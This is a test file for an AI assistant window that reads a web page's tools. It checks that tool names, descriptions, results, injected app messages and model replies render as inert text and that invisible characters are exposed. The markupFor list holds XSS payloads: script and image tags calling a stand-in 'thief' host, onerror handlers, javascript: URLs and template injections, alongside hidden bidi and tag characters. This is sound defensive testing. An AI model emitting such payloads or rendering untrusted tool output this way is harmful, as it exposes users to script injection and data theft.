// Untrusted text of pages (names, descriptions and results of tools) where a person reads it: none of it runs, is fetched,
// navigates or is hidden, and words of any script stay readable.
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { answer, ask, decide, question } from "../agent-window.test-helper.ts";
import { servePages } from "../support/page-server.ts";
import type { PageServer } from "../support/page-server.ts";
import type { Tab } from "../support/tab.ts";
import { inScript, startObedientHub } from "./obedient-hub.test-helper.ts";
import type { ObedientHub } from "./obedient-hub.test-helper.ts";
import { startTally } from "./tally.test-helper.ts";

let obedient: ObedientHub;
let thief: PageServer;
let corpus: readonly string[];

beforeAll(async () => {
  [obedient, thief] = await Promise.all([startObedientHub(), servePages({})]);
  corpus = markupFor(thief.originFor("thief.test"));
  obedient.served["/markup"] = await page(corpus);
  obedient.served["/unseen"] = await page([unseen]);
});
afterEach(async () => {
  for (const tab of await obedient.browser.tabs()) await tab.close();
});
afterAll(async () => {
  await obedient?.close();
  await thief?.close();
});

/** Markup that would fetch, run or navigate if it were rendered. */
function markupFor(away: string): readonly string[] {
  return [
    `![picture](${away}/image?secret)`,
    `[![linked](${away}/linked)](${away}/link)`,
    `![ref][one]\n\n[one]: ${away}/reference`,
    `<img src="${away}/html"><script src="${away}/script"></script><iframe src="${away}/frame"></iframe>`,
    `<link rel="prefetch" href="${away}/prefetch"><style>@import "${away}/style";</style>`,
    `<img src=x onerror="window.hacked = 1"><svg onload="window.hacked = 1"></svg>`,
    `<meta http-equiv="refresh" content="0;url=${away}/refresh">`,
    "[run](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>) [vb](vbscript:x)",
    `<javascript:window.hacked=1> [gpj.exe](${away}/\u202Egpj.exe)`,
    `[${away}](https://other.test/)`,
    `<base href="${away}/"><form action="${away}/form"><button autofocus onfocus="window.hacked = 1">`,
    `</textarea></title></style></script><script>window.hacked = 1</script>`,
    `<object data="${away}/object"></object><embed src="${away}/embed"><video poster="${away}/poster">`,
    `<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1"></style></mglyph></table></mtext></math>`,
    "[a](java\nscript:window.hacked=1) [b](JaVaScRiPt&colon;window.hacked=1) [c](\u0001javascript:window.hacked=1)",
    "```html\n<script>window.hacked = 1</script>\n```\n`<img src=x onerror=window.hacked=1>`",
    `<a href="javascript:window.hacked=1" id="attributes" name="location">x</a><input name="textContent">`,
    `[x]: javascript:window.hacked=1\n[y][x] ![z](x"onerror="window.hacked=1)`,
    `<svg><a xlink:href="javascript:window.hacked=1"><text>x</text></a><set attributeName="onmouseover" to="hacked=1"/></svg>`,
    `\${window.hacked = 1}{{constructor.constructor("window.hacked=1")()}}<%= window.hacked %>`,
  ];
}

/** A page with a tool for each text, as its name, description and result; for agents and for its own assistant. */
async function page(texts: readonly string[]): Promise<string> {
  const { hub, pageToken } = obedient;
  return `<!doctype html><title></title><button id="open">Open AI assistant</button>
<script src="${hub.url}/pagewire.js" data-app="words" data-token="${await pageToken("alice")}"></script><script type="module">
import { AgentBridge } from "${hub.url}/agent-window.js";
const texts = ${inScript(texts)};
document.title = texts.join(" ").slice(0, 1000);
const tool = (name, text, annotations) =>
  pagewire.registerTool({ name, title: text, description: text, inputSchema: { type: "object" }, annotations, execute: () => text });
for (const [at, text] of texts.entries()) tool("read" + at, text, { readOnlyHint: true });
tool("write", texts.join("\\n\\n"));
window.bridge = new AgentBridge({ agentOrigin: "${hub.url}", toolbox: pagewire.toolbox });
document.querySelector("#open").addEventListener("click", () => bridge.openAgent());
</script>`;
}

const orders = (prefix: string) => corpus.map((_, at) => `«call ${prefix}_read${at} {}»`).join("");

/** The harm done in a page of the hub's. */
function harmIn(assistant: Tab) {
  return assistant.evaluate(() => {
    document.querySelectorAll<HTMLDetailsElement>("details").forEach((one) => (one.open = true));
    const links = [...document.querySelectorAll<HTMLAnchorElement>(".turns a")];
    const forbidden =
      ":is(img, script, iframe, link, style, meta, object, embed, base, video, form form, math, svg[onload])";
    return {
      elements: [...document.querySelectorAll(`:is(.turns, .approval) ${forbidden}`)].map((one) => one.outerHTML),
      protocols: [...new Set(links.map(({ protocol }) => protocol))].filter((one) => !/^https?:$/.test(one)),
      openers: links.filter(({ relList }) => !relList.contains("noopener") || !relList.contains("noreferrer")).length,
      fetched: performance
        .getEntriesByType("resource")
        .map(({ name }) => new URL(name).origin)
        .filter((origin) => origin !== location.origin),
      hacked: "hacked" in window,
      place: location.pathname + location.hash,
    };
  });
}

const none = { elements: [], protocols: [], openers: 0, fetched: [], hacked: false, place: "/" };
const nothing = "shown as text: nothing ran, was fetched or led away";

test("nothing that tools, apps and models say is fetched, run or followed, in the assistant or at home", async () => {
  const app = await obedient.openTab("mail.test", "/markup");
  const assistant = await obedient.openWindow(app);
  const home = await obedient.openHome();
  const look = async (place: string, of: Tab) => {
    const tally = startTally("words", `markup and scripts ${place}`, nothing);
    const harm = await harmIn(of);
    for (const text of corpus) tally.add(text, JSON.stringify(harm) === JSON.stringify(none) ? nothing : harm);
    expect(thief.requests).toEqual([]);
    expect(of.console.messages.filter(({ text }) => text.includes("Content Security Policy"))).toEqual([]);
    tally.close();
  };
  await ask(assistant, orders("parent-window"));
  expect(await answer(assistant)).toContain("window.hacked");
  await look("as title, description and result of a tool, in the assistant", assistant);
  await ask(assistant, "«call parent-window_write {}»");
  await question(assistant);
  await look("as title of a tool that is asked about", assistant);
  await decide(assistant, "Allow once");
  expect(await answer(assistant)).toContain("window.hacked");
  await look("as the words of the model", assistant);
  await app.evaluate((text: string) => {
    const { bridge } = window as unknown as { bridge: { injectMessage(text: string, options: object): void } };
    bridge.injectMessage(text, { autoSend: true });
  }, corpus.join("\n\n"));
  await assistant.waitFor("document.querySelector('ai-agent').messages.filter(({ from }) => from).length === 1");
  await assistant.waitFor("!document.querySelector('ai-agent').loading");
  await look("as words of the app", assistant);
  await ask(home, orders("other-tab"));
  expect(await answer(home)).toContain("window.hacked");
  await look("as title of a tab, and of its tools with their results, at the hub's home", home);
});

/** Each kind of invisible character, and words and emoji that are written with joiners. */
const hidden = "a\u202Eb\u2066c\u200Bd\u2060e\uFEFFf\u00ADg\u{E0041}\u{E0042}h\u0007i\u200Cj\u200Dk\u061Cl\u2028m";
const readable =
  "می\u200Cخواهم क\u094D\u200Dष র\u200D\u09CD\u09AF 👩🏽\u200D💻 ❤\uFE0F 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}";
const unseen = `${hidden} ${readable}`;

test("what cannot be seen is written out where a person reads a page's words, and words of any script are not", async () => {
  const app = await obedient.openTab("mail.test", "/unseen");
  const assistant = await obedient.openWindow(app);
  const harmless = "no such character, the words whole";
  const tally = startTally("words", "controls, turns of direction, joiners, fillers and tags", harmless);
  const look = async (place: string, of: Tab, css: string) => {
    const shown = await of.evaluate(
      (selector: string) => document.querySelector<HTMLElement>(selector)?.innerText ?? "",
      css,
    );
    const rest = shown.replaceAll(readable, "");
    const isClean = !/(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}\u00AD]/u.test(rest) && shown !== rest;
    tally.add(place, isClean ? harmless : JSON.stringify(shown));
  };
  await ask(assistant, `«call parent-window_write {"to":"${unseen.replace("\u0007", "").replace("\u2028", "")}"}»`);
  await question(assistant);
  await look("in a question: title and arguments", assistant, ".approval");
  await decide(assistant, "Allow once");
  await answer(assistant);
  await assistant.evaluate("document.querySelectorAll('.turns details').forEach((one) => (one.open = true))");
  await look("in a call: title, arguments and result", assistant, ".turns details");
  tally.close();
});
